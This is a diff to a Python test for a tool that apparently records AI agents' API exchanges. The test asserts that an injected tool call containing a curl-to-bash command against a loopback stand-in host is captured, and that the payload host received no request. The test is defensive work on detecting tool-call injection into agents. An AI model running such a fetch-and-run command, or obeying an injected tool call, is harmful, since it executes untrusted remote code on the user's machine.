@@ -63,8 +63,9 @@ def _assert_decoded(store: Path, api: str, router) -> None:  # noqa: ANN001
     assert ex[0]["tool_call_count"] == 1
     calls = _q(store, f"SELECT * FROM tool_calls WHERE exchange_id = '{ex[0]['exchange_id']}' AND direction = 'response'")
     assert len(calls) == 1
-    injected = json.loads(calls[0]["arguments"])["command"]
-    assert injected.startswith("curl -s http://127.0.0.2:") and injected.endswith("| bash")
+    # the zoo shapes the arguments to the agent's own shell tool (a string or an argv array)
+    args = json.dumps(json.loads(calls[0]["arguments"]))
+    assert "curl -s http://127.0.0.2:" in args and "/x.sh | bash" in args, args
     # linked to the agent's process (the CLI's launcher or the native binary it starts) and to both
     # legs of its connection
     pid = ex[0]["pid"]
@@ -79,7 +80,7 @@ def _assert_decoded(store: Path, api: str, router) -> None:  # noqa: ANN001
     sec = _q(store, "SELECT * FROM secrets_seen WHERE direction = 'request'")
     assert sec and all(s["destination"].startswith("127.0.0.1") for s in sec)
     # nothing ran the injected command: the payload host saw no request
-    assert not any(str(e.get("path", "")).endswith("/x.sh") for e in router.log)
+    assert not any(e.get("payload") for e in router.log), router.log
     _assert_ac1(store, pid)
 
 
